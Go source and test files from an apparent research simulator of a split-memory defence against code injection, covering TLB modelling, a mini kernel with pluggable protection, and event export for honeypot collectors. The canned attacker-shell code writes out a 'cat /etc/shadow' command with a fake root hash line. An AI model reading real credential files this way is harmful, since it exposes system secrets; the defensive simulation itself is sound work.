		s := &t.slots[i]
		w.Bool(s.valid)
		w.U32(s.vpn)
		w.U32(s.entry.Frame)
		w.Bool(s.entry.User)
		w.Bool(s.entry.Writable)
		w.Bool(s.entry.NoExec)
		w.U64(s.used)
	}
}

// DecodeState restores state serialized by EncodeState into a TLB of the
// same capacity, rebuilding the lookup index.
func (t *TLB) DecodeState(r *snapshot.Reader) error {
	if n := r.U32(); int(n) != len(t.slots) {
		return snapshot.Corruptf("tlb: %d slots, machine has %d", n, len(t.slots))
	}
	t.tick = r.U64()
	t.hits = r.U64()
	t.misses = r.U64()
	t.evictions = r.U64()
	t.flushes = r.U64()
	clear(t.index)
	for i := range t.slots {
		s := &t.slots[i]
		s.valid = r.Bool()
		s.vpn = r.U32()
		s.entry.Frame = r.U32()
		s.entry.User = r.Bool()
		s.entry.Writable = r.Bool()
		s.entry.NoExec = r.Bool()
		s.used = r.U64()
		if s.valid {
			if _, dup := t.index[s.vpn]; dup {
				return snapshot.Corruptf("tlb: duplicate valid vpn %#x", s.vpn)
			}
			t.index[s.vpn] = i
		}
	}
	return r.Err()
}

// RegisterTelemetry registers this TLB's counters as sampled gauges
// under the given metric name prefix ("splitmem_itlb", "splitmem_dtlb").
// Sampling happens at export time, so the lookup hot path is untouched.
func (t *TLB) RegisterTelemetry(r *telemetry.Registry, prefix string) {
	if r == nil {
		return
	}
	r.GaugeFunc(prefix+"_hits_total", "TLB lookup hits",
		func() float64 { return float64(t.hits) })
	r.GaugeFunc(prefix+"_misses_total", "TLB lookup misses",
		func() float64 { return float64(t.misses) })
	r.GaugeFunc(prefix+"_evictions_total", "LRU and chaos evictions",
		func() float64 { return float64(t.evictions) })
	r.GaugeFunc(prefix+"_flushes_total", "full flushes (CR3 reloads)",
		func() float64 { return float64(t.flushes) })
	r.GaugeFunc(prefix+"_valid_entries", "currently valid entries",
		func() float64 { return float64(len(t.index)) })
}
