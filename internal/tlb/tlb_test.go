package tlb

import (
	"math/rand"
	"testing"
	"testing/quick"
)

func TestLookupMissThenHit(t *testing.T) {
	b := New(4)
	if _, ok := b.Lookup(5); ok {
		t.Fatal("unexpected hit in empty TLB")
	}
	b.Insert(5, Entry{Frame: 42, User: true})
	e, ok := b.Lookup(5)
	if !ok || e.Frame != 42 || !e.User {
		t.Fatalf("got %+v ok=%v", e, ok)
	}
	hits, misses, _, _ := b.Stats()
	if hits != 1 || misses != 1 {
		t.Fatalf("hits=%d misses=%d", hits, misses)
	}
}

func TestLRUEviction(t *testing.T) {
	b := New(2)
	b.Insert(1, Entry{Frame: 1})
	b.Insert(2, Entry{Frame: 2})
	// Touch 1 so 2 becomes LRU.
	if _, ok := b.Lookup(1); !ok {
		t.Fatal("1 missing")
	}
	b.Insert(3, Entry{Frame: 3})
	if _, ok := b.Probe(2); ok {
		t.Fatal("2 should have been evicted (LRU)")
	}
	if _, ok := b.Probe(1); !ok {
		t.Fatal("1 should survive")
	}
	if _, ok := b.Probe(3); !ok {
		t.Fatal("3 should be present")
	}
	_, _, ev, _ := b.Stats()
	if ev != 1 {
		t.Fatalf("evictions=%d", ev)
	}
}

func TestInsertOverwritesSameVPN(t *testing.T) {
	b := New(2)
	b.Insert(7, Entry{Frame: 1, User: false})
	b.Insert(7, Entry{Frame: 2, User: true})
	if b.Valid() != 1 {
		t.Fatalf("valid=%d want 1", b.Valid())
	}
	e, _ := b.Probe(7)
	if e.Frame != 2 || !e.User {
		t.Fatalf("entry not overwritten: %+v", e)
	}
}

// TestDesync demonstrates the property the split-memory technique relies on:
// an inserted entry keeps serving its cached frame and permissions even
// after the "pagetable" changed, until explicitly invalidated.
func TestDesync(t *testing.T) {
	itlb := New(4)
	dtlb := New(4)
	const vpn = 0xbf000
	itlb.Insert(vpn, Entry{Frame: 100, User: true}) // code frame
	dtlb.Insert(vpn, Entry{Frame: 200, User: true}) // data frame

	ie, _ := itlb.Lookup(vpn)
	de, _ := dtlb.Lookup(vpn)
	if ie.Frame == de.Frame {
		t.Fatal("TLBs should be desynchronized")
	}
	if ie.Frame != 100 || de.Frame != 200 {
		t.Fatalf("fetch->%d data->%d", ie.Frame, de.Frame)
	}
}

func TestInvalidate(t *testing.T) {
	b := New(4)
	b.Insert(1, Entry{Frame: 1})
	b.Insert(2, Entry{Frame: 2})
	b.Invalidate(1)
	if _, ok := b.Probe(1); ok {
		t.Fatal("1 should be invalid")
	}
	if _, ok := b.Probe(2); !ok {
		t.Fatal("2 should remain")
	}
	// Invalidate of absent vpn is a no-op.
	b.Invalidate(99)
}

func TestFlush(t *testing.T) {
	b := New(4)
	for i := uint32(0); i < 4; i++ {
		b.Insert(i, Entry{Frame: i})
	}
	b.Flush()
	if b.Valid() != 0 {
		t.Fatalf("valid=%d after flush", b.Valid())
	}
	_, _, _, fl := b.Stats()
	if fl != 1 {
		t.Fatalf("flushes=%d", fl)
	}
}

func TestMinimumSize(t *testing.T) {
	b := New(0)
	if b.Size() != 1 {
		t.Fatalf("size=%d want 1", b.Size())
	}
	b.Insert(1, Entry{Frame: 1})
	b.Insert(2, Entry{Frame: 2})
	if _, ok := b.Probe(1); ok {
		t.Fatal("1 should be evicted in 1-entry TLB")
	}
}

func TestResetStats(t *testing.T) {
	b := New(2)
	b.Insert(1, Entry{Frame: 1})
	b.Lookup(1)
	b.Lookup(9)
	b.ResetStats()
	h, m, e, f := b.Stats()
	if h|m|e|f != 0 {
		t.Fatalf("stats not reset: %d %d %d %d", h, m, e, f)
	}
}

// Property: a TLB never holds more than its capacity of valid entries, and
// the most recently inserted vpn is always present.
func TestQuickCapacityInvariant(t *testing.T) {
	f := func(vpns []uint32, sizeSeed uint8) bool {
		size := int(sizeSeed%16) + 1
		b := New(size)
		for _, v := range vpns {
			b.Insert(v, Entry{Frame: v})
			if b.Valid() > size {
				return false
			}
			if _, ok := b.Probe(v); !ok {
				return false
			}
		}
		return true
	}
	cfg := &quick.Config{MaxCount: 500, Rand: rand.New(rand.NewSource(7))}
	if err := quick.Check(f, cfg); err != nil {
		t.Fatal(err)
	}
}
