package kernel

import (
	"bytes"
	"encoding/hex"
	"encoding/json"
	"fmt"
)

// JSON export of the kernel event log, for honeypot pipelines (the paper's
// observe mode is explicitly designed to feed monitoring infrastructure
// like Sebek; structured output is how a modern collector would ingest it).

// eventJSON is the wire form of an Event.
type eventJSON struct {
	Kind   string `json:"kind"`
	PID    int    `json:"pid"`
	Proc   string `json:"proc,omitempty"`
	Cycles uint64 `json:"cycles"`
	Addr   string `json:"addr,omitempty"`
	Signal string `json:"signal,omitempty"`
	Text   string `json:"text,omitempty"`
	Data   string `json:"data,omitempty"`  // hex
	Trace  string `json:"trace,omitempty"` // retired-instruction listing
}

// MarshalJSON renders the event with a stable, human-auditable schema:
// symbolic kind and signal names, hexadecimal addresses and payload bytes.
func (e Event) MarshalJSON() ([]byte, error) {
	out := eventJSON{
		Kind:   e.Kind.String(),
		PID:    e.PID,
		Proc:   e.Proc,
		Cycles: e.Cycles,
		Text:   e.Text,
		Trace:  e.Trace,
	}
	if e.Addr != 0 {
		out.Addr = fmt.Sprintf("0x%08x", e.Addr)
	}
	if e.Signal != SIGNONE {
		out.Signal = e.Signal.String()
	}
	if len(e.Data) > 0 {
		out.Data = hex.EncodeToString(e.Data)
	}
	return json.Marshal(out)
}

// eventKinds enumerates every defined kind, for decoding and tests.
var eventKinds = []EventKind{
	EvProcessStart, EvProcessExit, EvSignal, EvInjectionDetected,
	EvInjectionObserved, EvForensicDump, EvShellSpawned, EvSebekLine,
	EvSyscall, EvLibraryLoad, EvInvariantViolation, EvMachineCheck,
}

// signals enumerates every defined signal, for decoding.
var signals = []Signal{SIGSEGV, SIGILL, SIGFPE, SIGTRAP, SIGKILL}

// UnmarshalJSON decodes the wire form produced by MarshalJSON, so external
// collectors written in Go (and this package's round-trip tests) can reuse
// the Event type directly.
func (e *Event) UnmarshalJSON(b []byte) error {
	var in eventJSON
	if err := json.Unmarshal(b, &in); err != nil {
		return err
	}
	*e = Event{PID: in.PID, Proc: in.Proc, Cycles: in.Cycles, Text: in.Text, Trace: in.Trace}
	for _, k := range eventKinds {
		if k.String() == in.Kind {
			e.Kind = k
			break
		}
	}
	if e.Kind == 0 {
		return fmt.Errorf("kernel: unknown event kind %q", in.Kind)
	}
	if in.Addr != "" {
		if _, err := fmt.Sscanf(in.Addr, "0x%08x", &e.Addr); err != nil {
			return fmt.Errorf("kernel: bad event addr %q: %v", in.Addr, err)
		}
	}
	if in.Signal != "" {
		for _, s := range signals {
			if s.String() == in.Signal {
				e.Signal = s
				break
			}
		}
		if e.Signal == SIGNONE {
			return fmt.Errorf("kernel: unknown signal %q", in.Signal)
		}
	}
	if in.Data != "" {
		d, err := hex.DecodeString(in.Data)
		if err != nil {
			return fmt.Errorf("kernel: bad event data: %v", err)
		}
		e.Data = d
	}
	return nil
}

// EventsJSONL renders events as JSON Lines (one object per line).
func EventsJSONL(events []Event) ([]byte, error) {
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	for _, e := range events {
		if err := enc.Encode(e); err != nil {
			return nil, err
		}
	}
	return buf.Bytes(), nil
}
