package kernel

import (
	"bytes"
	"encoding/hex"
	"encoding/json"
	"fmt"
)

// JSON export of the kernel event log, for honeypot pipelines (the paper's
// observe mode is explicitly designed to feed monitoring infrastructure
// like Sebek; structured output is how a modern collector would ingest it).

// eventJSON is the wire form of an Event.
type eventJSON struct {
	Kind   string `json:"kind"`
	PID    int    `json:"pid"`
	Proc   string `json:"proc,omitempty"`
	Cycles uint64 `json:"cycles"`
	Addr   string `json:"addr,omitempty"`
	Signal string `json:"signal,omitempty"`
	Text   string `json:"text,omitempty"`
	Data   string `json:"data,omitempty"` // hex
}

// MarshalJSON renders the event with a stable, human-auditable schema:
// symbolic kind and signal names, hexadecimal addresses and payload bytes.
func (e Event) MarshalJSON() ([]byte, error) {
	out := eventJSON{
		Kind:   e.Kind.String(),
		PID:    e.PID,
		Proc:   e.Proc,
		Cycles: e.Cycles,
		Text:   e.Text,
	}
	if e.Addr != 0 {
		out.Addr = fmt.Sprintf("0x%08x", e.Addr)
	}
	if e.Signal != SIGNONE {
		out.Signal = e.Signal.String()
	}
	if len(e.Data) > 0 {
		out.Data = hex.EncodeToString(e.Data)
	}
	return json.Marshal(out)
}

// EventsJSONL renders events as JSON Lines (one object per line).
func EventsJSONL(events []Event) ([]byte, error) {
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	for _, e := range events {
		if err := enc.Encode(e); err != nil {
			return nil, err
		}
	}
	return buf.Bytes(), nil
}
