package kernel

import (
	"fmt"
	"strings"
)

// Shell emulation. When exploited guest code invokes execve("/bin/sh") the
// kernel marks the attack successful and services the process as a canned
// interactive shell: commands arrive on stdin (the attacker's socket),
// responses leave on stdout, and — when the Sebek-style logger is armed —
// every keystroke line is recorded, reproducing Fig. 5(b) and 5(d).

// ArmSebek enables Sebek-style keystroke logging for p. The observe response
// mode arms it automatically when an injection is detected, mirroring the
// paper's buffer-overflow-triggered Sebek activation (§6.1.3).
func (k *Kernel) ArmSebek(p *Process) {
	if !p.sebek {
		p.sebek = true
		k.Emit(Event{Kind: EvSebekLine, PID: p.PID, Proc: p.Name, Text: "[sebek] logging armed"})
	}
}

// SebekArmed reports whether keystroke logging is active for p.
func (p *Process) SebekArmed() bool { return p.sebek }

// serviceShells pumps pending stdin lines through every shell-mode process.
// Shell work happens at kernel level (the spawned /bin/sh is outside the
// protected program) and charges only modest syscall-ish costs.
// Shells are serviced in PID order: stdout and event ordering across
// concurrent shells must not depend on map iteration.
func (k *Kernel) serviceShells() {
	for _, p := range k.Processes() {
		if p.state != stateShell {
			continue
		}
		for {
			line, ok := takeLine(&p.stdin.data)
			if !ok {
				break
			}
			k.m.AddCycles(k.m.Cost.Syscall)
			if p.sebek {
				k.Emit(Event{Kind: EvSebekLine, PID: p.PID, Proc: p.Name, Text: line})
			}
			if line == "exit" {
				p.outbuf = append(p.outbuf, []byte("exit\n")...)
				k.exitProcess(p, 0)
				break
			}
			p.outbuf = append(p.outbuf, []byte(shellRespond(line))...)
		}
		if p.state == stateShell && p.stdin.eof && len(p.stdin.data) == 0 {
			k.exitProcess(p, 0)
		}
	}
}

// takeLine pops one newline-terminated line from buf.
func takeLine(buf *[]byte) (string, bool) {
	b := *buf
	for i, c := range b {
		if c == '\n' {
			line := strings.TrimRight(string(b[:i]), "\r")
			*buf = b[i+1:]
			return line, true
		}
	}
	return "", false
}

// shellRespond produces the canned output of the attacker's root shell.
func shellRespond(cmd string) string {
	fields := strings.Fields(cmd)
	if len(fields) == 0 {
		return ""
	}
	switch fields[0] {
	case "id":
		return "uid=0(root) gid=0(root) groups=0(root)\n"
	case "whoami":
		return "root\n"
	case "uname":
		return "Linux redhat72 2.6.13 #1 i686 GNU/Linux\n"
	case "pwd":
		return "/\n"
	case "echo":
		return strings.Join(fields[1:], " ") + "\n"
	case "cat":
		if len(fields) > 1 && fields[1] == "/etc/shadow" {
			return "root:$1$deadbeef$abcdefghijklmnopqrstu.:12345:0:99999:7:::\n"
		}
		return fmt.Sprintf("cat: %s: No such file or directory\n", strings.Join(fields[1:], " "))
	case "ls":
		return "bin  boot  dev  etc  home  lib  proc  root  tmp  usr  var\n"
	}
	return fmt.Sprintf("sh: %s: command not found\n", fields[0])
}
