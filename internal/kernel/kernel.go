// Package kernel implements the mini operating system of the S86 simulator:
// process creation (the ELF-loader equivalent for SELF images), demand
// paging, copy-on-write fork, pipes, a round-robin scheduler whose context
// switches flush the TLBs, Unix-flavored syscalls, and signal-style process
// termination.
//
// Memory-protection policy is pluggable through the Protector interface:
// internal/core provides the split-memory engine (the paper's contribution),
// internal/nx provides the execute-disable-bit baseline, and the kernel's
// built-in default applies no execution protection at all.
package kernel

import (
	"fmt"
	"math/rand"
	"sort"

	"splitmem/internal/cpu"
	"splitmem/internal/mem"
	"splitmem/internal/paging"
	"splitmem/internal/telemetry"
)

// Virtual-memory layout constants for guest processes.
const (
	StackTop   = 0xBFFF0000 // initial top of stack (grows down)
	StackLimit = 0xBF000000 // lowest address the stack may grow to
	MmapBase   = 0x40000000 // mmap allocations grow up from here
	HeapGap    = 0x00010000 // gap between the last section and the heap
)

// Signal identifies why a process was killed.
type Signal int

// Signals delivered by the kernel.
const (
	SIGNONE Signal = iota
	SIGSEGV        // invalid memory access
	SIGILL         // illegal instruction
	SIGFPE         // divide error
	SIGTRAP        // breakpoint
	SIGKILL        // killed by the kernel/response engine
)

// String returns the conventional signal name.
func (s Signal) String() string {
	switch s {
	case SIGNONE:
		return "0"
	case SIGSEGV:
		return "SIGSEGV"
	case SIGILL:
		return "SIGILL"
	case SIGFPE:
		return "SIGFPE"
	case SIGTRAP:
		return "SIGTRAP"
	case SIGKILL:
		return "SIGKILL"
	}
	return fmt.Sprintf("SIG(%d)", int(s))
}

// EventKind classifies kernel event-log entries.
type EventKind int

// Kernel events.
const (
	EvProcessStart      EventKind = iota + 1
	EvProcessExit                 // Text: exit status; Addr: status
	EvSignal                      // process killed by signal (Addr: faulting address)
	EvInjectionDetected           // protection engine caught injected-code execution
	EvInjectionObserved           // observe mode let the attack continue
	EvForensicDump                // forensics mode dumped shellcode (Data: bytes at EIP)
	EvShellSpawned                // a process invoked execve (attack success marker)
	EvSebekLine                   // Sebek-style keystroke log line (Text)
	EvSyscall                     // verbose; only recorded when TraceSyscalls is set
	EvLibraryLoad                 // validated library load/split
	EvInvariantViolation          // paranoid auditor found an engine-state inconsistency (Text)
	EvMachineCheck                // contained host-level fault (mem misuse, recovered panic) (Text)
)

// String names the event kind.
func (k EventKind) String() string {
	switch k {
	case EvProcessStart:
		return "start"
	case EvProcessExit:
		return "exit"
	case EvSignal:
		return "signal"
	case EvInjectionDetected:
		return "injection-detected"
	case EvInjectionObserved:
		return "injection-observed"
	case EvForensicDump:
		return "forensic-dump"
	case EvShellSpawned:
		return "shell-spawned"
	case EvSebekLine:
		return "sebek"
	case EvSyscall:
		return "syscall"
	case EvLibraryLoad:
		return "library-load"
	case EvInvariantViolation:
		return "invariant-violation"
	case EvMachineCheck:
		return "machine-check"
	}
	return "unknown"
}

// Event is one kernel event-log entry.
type Event struct {
	Kind   EventKind
	PID    int
	Proc   string // process name
	Cycles uint64 // machine cycle count at the time
	Addr   uint32 // event-specific address (EIP, fault address, status)
	Signal Signal
	Text   string
	Data   []byte
	// Trace carries the last-N retired guest instructions leading up to
	// the event as a disassembly listing. The observe and forensics
	// response modes attach it to injection detections when an execution
	// trace ring is configured (Config.TraceDepth in the public API).
	Trace string
}

// FaultVerdict is a Protector's ruling on a page fault.
type FaultVerdict int

// Fault verdicts.
const (
	// FaultNotMine lets the kernel's generic handling (demand paging, COW,
	// segfault) proceed.
	FaultNotMine FaultVerdict = iota
	// FaultHandled means the protector fixed things up; restart the
	// instruction.
	FaultHandled
	// FaultKill means the protector detected an attack and the process must
	// die (break response mode).
	FaultKill
)

// UDVerdict is a Protector's ruling on an undefined-instruction trap.
type UDVerdict int

// Undefined-instruction verdicts.
const (
	// UDNotMine: not an attack detection; deliver SIGILL as usual.
	UDNotMine UDVerdict = iota
	// UDResume: the protector re-routed execution (observe/forensics);
	// continue the process.
	UDResume
	// UDKill: detection confirmed, kill the process.
	UDKill
)

// Protector is the pluggable memory-protection policy. Implementations must
// be deterministic and must only touch guest state through the Kernel and
// Machine APIs so cycle accounting stays correct.
type Protector interface {
	// Name identifies the policy ("none", "nx", "split").
	Name() string
	// MapPage installs the translation for vpn backed by frame, whose
	// section/region permissions are perm (loader.Perm* bits). The frame
	// already holds the page's initial content.
	MapPage(k *Kernel, p *Process, vpn uint32, frame uint32, perm byte)
	// HandleFault rules on a page fault before generic kernel handling.
	HandleFault(k *Kernel, p *Process, addr uint32, code uint32) FaultVerdict
	// HandleDebug receives single-step traps; returns true if consumed.
	HandleDebug(k *Kernel, p *Process) bool
	// HandleUndefined rules on #UD traps (the observe/forensics hook).
	HandleUndefined(k *Kernel, p *Process) UDVerdict
	// DataFrame resolves the frame the kernel must use for data reads and
	// writes on behalf of the process (copyin/copyout); ok=false defers to
	// the PTE's frame.
	DataFrame(p *Process, vpn uint32) (uint32, bool)
	// ForkPage duplicates per-page protector state from parent to child for
	// a protector-managed page and returns the child's PTE; ok=false defers
	// to the kernel's COW logic.
	ForkPage(k *Kernel, parent, child *Process, vpn uint32, e paging.Entry) (paging.Entry, bool)
	// ReleasePage frees protector-owned resources for vpn at teardown;
	// returns true if it owned the page (kernel then skips freeing the PTE
	// frame itself).
	ReleasePage(k *Kernel, p *Process, vpn uint32, e paging.Entry) bool
	// ProtectPage applies an mprotect permission change to an
	// already-present page; returns true if handled. Split pages MUST keep
	// their existing twins: there is deliberately no path that promotes
	// data-twin content into the code twin, which is what defeats
	// mprotect-style NX-bypass attacks.
	ProtectPage(k *Kernel, p *Process, vpn uint32, e paging.Entry, perm byte) bool
}

// Preempter lets the chaos engine force timeslice expiry after any
// instruction, producing context-switch storms far denser than the
// configured quantum would ever allow.
type Preempter interface {
	ForcePreempt() bool
}

// Config configures a kernel instance.
type Config struct {
	Machine        *cpu.Machine
	Protector      Protector // nil selects the unprotected default
	Timeslice      uint64    // scheduler quantum in cycles (default 50_000)
	RandomizeStack bool      // slight stack placement randomization (Linux 2.6 style)
	RandSeed       int64     // seed for randomized placement (determinism)
	TraceSyscalls  bool      // record EvSyscall events
	EventHook      func(Event)
	MaxEvents      int       // ring-buffer capacity for the event log (default 4096)
	Chaos          Preempter // nil disables forced preemption
}

// Kernel is the simulated operating system.
type Kernel struct {
	m         *cpu.Machine
	prot      Protector
	procs     map[int]*Process
	runq      []int
	cur       *Process
	nextPID   int
	timeslice uint64
	rng       *rand.Rand // lazily seeded; access through rand()
	rngDraws  uint64     // Intn draws consumed; replayed on snapshot restore
	cfg       Config

	events    []Event
	dropped   int // entries dropped by the ring buffer
	seqBase   int // lifetime sequence number of events[0] (ring drops + clears)
	pipes     map[int]*pipe
	nextPipe  int
	syscalls  uint64
	faultsGen uint64 // generic (demand/COW) faults handled
	spurious  uint64 // benign refaults absorbed (stale TLB / double delivery)
}

// New creates a kernel bound to a machine and installs itself as the
// machine's trap handler.
func New(cfg Config) (*Kernel, error) {
	if cfg.Machine == nil {
		return nil, fmt.Errorf("kernel: config requires a machine")
	}
	if cfg.Timeslice == 0 {
		cfg.Timeslice = 50_000
	}
	if cfg.MaxEvents == 0 {
		cfg.MaxEvents = 4096
	}
	k := &Kernel{
		m:         cfg.Machine,
		prot:      cfg.Protector,
		procs:     map[int]*Process{},
		nextPID:   1,
		timeslice: cfg.Timeslice,
		cfg:       cfg,
		pipes:     map[int]*pipe{},
	}
	if k.prot == nil {
		k.prot = Unprotected{}
	}
	k.m.SetHandler(k)
	if cfg.Chaos != nil {
		// Hand the forced-preemption draw to the machine so the superblock
		// engine can consume it between in-block instructions with the same
		// per-instruction cadence the scheduler loop produces.
		k.m.Preempt = cfg.Chaos.ForcePreempt
	}
	// Contained physical-memory faults (allocator misuse, out-of-range frame
	// access) surface in the event log as machine checks.
	k.m.Phys.FaultHook = func(err error) {
		k.Emit(Event{Kind: EvMachineCheck, Text: "phys: " + err.Error()})
	}
	return k, nil
}

// rand returns the kernel's placement RNG, seeding it on first use. Seeding
// a math/rand source costs more than the rest of kernel construction put
// together, and most kernels (stack randomization off, zero draws replayed on
// restore) never draw from it at all.
func (k *Kernel) rand() *rand.Rand {
	if k.rng == nil {
		k.rng = rand.New(rand.NewSource(k.cfg.RandSeed))
	}
	return k.rng
}

// Machine returns the underlying machine.
func (k *Kernel) Machine() *cpu.Machine { return k.m }

// Phys returns physical memory.
func (k *Kernel) Phys() *mem.Physical { return k.m.Phys }

// Protector returns the active protection policy.
func (k *Kernel) Protector() Protector { return k.prot }

// Current returns the process now on the CPU (nil between runs).
func (k *Kernel) Current() *Process { return k.cur }

// Process looks up a process by pid.
func (k *Kernel) Process(pid int) (*Process, bool) {
	p, ok := k.procs[pid]
	return p, ok
}

// Emit appends an event to the log (ring-buffer capped) and invokes the
// configured hook.
func (k *Kernel) Emit(ev Event) {
	ev.Cycles = k.m.Cycles
	if ev.PID == 0 && k.cur != nil {
		ev.PID = k.cur.PID
		ev.Proc = k.cur.Name
	}
	if len(k.events) >= k.cfg.MaxEvents {
		k.events = k.events[1:]
		k.dropped++
		k.seqBase++
	}
	k.events = append(k.events, ev)
	if k.cfg.EventHook != nil {
		k.cfg.EventHook(ev)
	}
}

// Events returns the accumulated event log.
func (k *Kernel) Events() []Event { return k.events }

// EventSeq returns the total number of events emitted over the kernel's
// lifetime, including entries the ring buffer has already dropped or the
// host has cleared. It is the cursor value an incremental reader passes to
// EventsSince.
func (k *Kernel) EventSeq() int { return k.seqBase + len(k.events) }

// EventsSince returns the still-retained events whose lifetime sequence
// number (see EventSeq) is at least n, without copying: pollers and the
// NDJSON streamer consume the log incrementally instead of re-reading the
// whole slice on every poll. Events older than n that have since been
// dropped or cleared are silently skipped. The returned slice aliases the
// log and is valid until the next Emit.
func (k *Kernel) EventsSince(n int) []Event {
	if n < k.seqBase {
		n = k.seqBase
	}
	i := n - k.seqBase
	if i >= len(k.events) {
		return nil
	}
	return k.events[i:]
}

// Counters reports kernel activity totals: syscalls dispatched, generic
// (demand-paging and copy-on-write) faults handled, and events dropped by
// the ring buffer.
func (k *Kernel) Counters() (syscalls, genericFaults uint64, droppedEvents int) {
	return k.syscalls, k.faultsGen, k.dropped
}

// SpuriousFaults reports how many benign refaults the page-fault handler
// absorbed — faults whose PTE already permitted the access, the signature
// of a stale TLB entry or a double-delivered trap.
func (k *Kernel) SpuriousFaults() uint64 { return k.spurious }

// MachineCheck records a contained host-level fault (allocator misuse, a
// recovered panic) as an EvMachineCheck event. A nil err is ignored so
// call sites can wrap fallible calls without branching.
func (k *Kernel) MachineCheck(origin string, err error) {
	if err == nil {
		return
	}
	k.Emit(Event{Kind: EvMachineCheck, Text: origin + ": " + err.Error()})
}

// Processes returns every process (alive or dead) in ascending PID order —
// the deterministic walk the invariant auditor needs.
func (k *Kernel) Processes() []*Process {
	out := make([]*Process, 0, len(k.procs))
	for _, p := range k.procs {
		out = append(out, p)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].PID < out[j].PID })
	return out
}

// EventsOf filters events by kind.
func (k *Kernel) EventsOf(kind EventKind) []Event {
	var out []Event
	for _, e := range k.events {
		if e.Kind == kind {
			out = append(out, e)
		}
	}
	return out
}

// ClearEvents drops the accumulated event log. Lifetime sequence numbers
// (EventSeq) keep counting across the clear, so incremental readers never
// observe the cursor moving backwards.
func (k *Kernel) ClearEvents() {
	k.seqBase += len(k.events)
	k.events = nil
}

// RegisterTelemetry registers the kernel's activity counters as sampled
// gauges. Sampling happens at export time; syscall and fault paths are
// untouched.
func (k *Kernel) RegisterTelemetry(r *telemetry.Registry) {
	if r == nil {
		return
	}
	r.GaugeFunc("splitmem_kernel_syscalls_total", "syscalls dispatched",
		func() float64 { return float64(k.syscalls) })
	r.GaugeFunc("splitmem_kernel_generic_faults_total", "demand-paging and copy-on-write faults handled",
		func() float64 { return float64(k.faultsGen) })
	r.GaugeFunc("splitmem_kernel_spurious_faults_total", "benign refaults absorbed (stale TLB, double delivery)",
		func() float64 { return float64(k.spurious) })
	r.GaugeFunc("splitmem_kernel_events_dropped_total", "event-log entries dropped by the ring buffer",
		func() float64 { return float64(k.dropped) })
	r.GaugeFunc("splitmem_kernel_live_processes", "processes currently alive",
		func() float64 { return float64(k.liveProcesses()) })
}

// Unprotected is the default, no-op protection policy: every mapped page is
// directly user-accessible and (on NX hardware) executable.
type Unprotected struct{}

// Name implements Protector.
func (Unprotected) Name() string { return "none" }

// MapPage implements Protector: plain present+user mapping, writable per the
// section permission, no NX.
func (Unprotected) MapPage(k *Kernel, p *Process, vpn uint32, frame uint32, perm byte) {
	e := paging.Entry(0).WithFrame(frame).With(paging.Present | paging.User)
	if perm&permW != 0 {
		e = e.With(paging.Writable)
	}
	p.PT.Set(vpn, e)
}

// HandleFault implements Protector.
func (Unprotected) HandleFault(*Kernel, *Process, uint32, uint32) FaultVerdict {
	return FaultNotMine
}

// HandleDebug implements Protector.
func (Unprotected) HandleDebug(*Kernel, *Process) bool { return false }

// HandleUndefined implements Protector.
func (Unprotected) HandleUndefined(*Kernel, *Process) UDVerdict { return UDNotMine }

// DataFrame implements Protector.
func (Unprotected) DataFrame(*Process, uint32) (uint32, bool) { return 0, false }

// ForkPage implements Protector.
func (Unprotected) ForkPage(*Kernel, *Process, *Process, uint32, paging.Entry) (paging.Entry, bool) {
	return 0, false
}

// ReleasePage implements Protector.
func (Unprotected) ReleasePage(*Kernel, *Process, uint32, paging.Entry) bool { return false }

// ProtectPage implements Protector: toggle the writable bit only.
func (Unprotected) ProtectPage(k *Kernel, p *Process, vpn uint32, e paging.Entry, perm byte) bool {
	ne := e.Without(paging.Writable)
	if perm&permW != 0 {
		ne = ne.With(paging.Writable)
	}
	p.PT.Set(vpn, ne)
	return true
}
