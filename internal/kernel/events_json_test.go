package kernel

import (
	"bytes"
	"encoding/json"
	"fmt"
	"reflect"
	"testing"
)

// sampleEvent builds an event of the given kind with every field populated,
// so a round trip that drops any field is caught by reflect.DeepEqual.
func sampleEvent(kind EventKind, i int) Event {
	return Event{
		Kind:   kind,
		PID:    i + 1,
		Proc:   fmt.Sprintf("proc-%d", i),
		Cycles: uint64(1000 + i),
		Addr:   0x08048000 + uint32(i)<<12,
		Signal: signals[i%len(signals)],
		Text:   fmt.Sprintf("event %v #%d", kind, i),
		Data:   []byte{0xBB, 0x00, byte(i)},
		Trace:  fmt.Sprintf("[%12d] 08048000  mov eax, 0x%x\n", 1000+i, i),
	}
}

// TestEventsJSONLRoundTrip encodes one fully-populated event of every
// defined kind — including the chaos-era machine-check and
// invariant-violation kinds — and decodes the JSONL back, asserting nothing
// was silently dropped.
func TestEventsJSONLRoundTrip(t *testing.T) {
	var events []Event
	for i, kind := range eventKinds {
		events = append(events, sampleEvent(kind, i))
	}
	out, err := EventsJSONL(events)
	if err != nil {
		t.Fatalf("EventsJSONL: %v", err)
	}
	lines := bytes.Split(bytes.TrimSpace(out), []byte("\n"))
	if len(lines) != len(events) {
		t.Fatalf("got %d lines, want %d", len(lines), len(events))
	}
	for i, line := range lines {
		var got Event
		if err := json.Unmarshal(line, &got); err != nil {
			t.Fatalf("line %d (%v): %v", i, events[i].Kind, err)
		}
		if !reflect.DeepEqual(got, events[i]) {
			t.Errorf("kind %v round trip mismatch:\n got %+v\nwant %+v", events[i].Kind, got, events[i])
		}
	}
}

// TestEventJSONCoversEveryField guards the wire schema against new Event
// fields being added without a matching eventJSON field: marshaling an
// event whose every field is nonzero must produce a decodable line that
// DeepEqual-matches, and the struct field counts must stay in sync.
func TestEventJSONCoversEveryField(t *testing.T) {
	ev := reflect.TypeOf(Event{})
	wire := reflect.TypeOf(eventJSON{})
	if ev.NumField() != wire.NumField() {
		t.Errorf("Event has %d fields but eventJSON has %d — a field was added to one and not the other",
			ev.NumField(), wire.NumField())
	}

	// Every field of a fully-populated event must survive the round trip —
	// this fails if a new field is added to both structs but not wired
	// through MarshalJSON/UnmarshalJSON.
	orig := sampleEvent(EvInjectionDetected, 7)
	b, err := json.Marshal(orig)
	if err != nil {
		t.Fatalf("Marshal: %v", err)
	}
	var got Event
	if err := json.Unmarshal(b, &got); err != nil {
		t.Fatalf("Unmarshal: %v", err)
	}
	gv, ov := reflect.ValueOf(got), reflect.ValueOf(orig)
	for i := 0; i < ev.NumField(); i++ {
		if ov.Field(i).IsZero() {
			t.Errorf("sampleEvent leaves Event.%s zero; populate it so the round trip can check it", ev.Field(i).Name)
			continue
		}
		if !reflect.DeepEqual(gv.Field(i).Interface(), ov.Field(i).Interface()) {
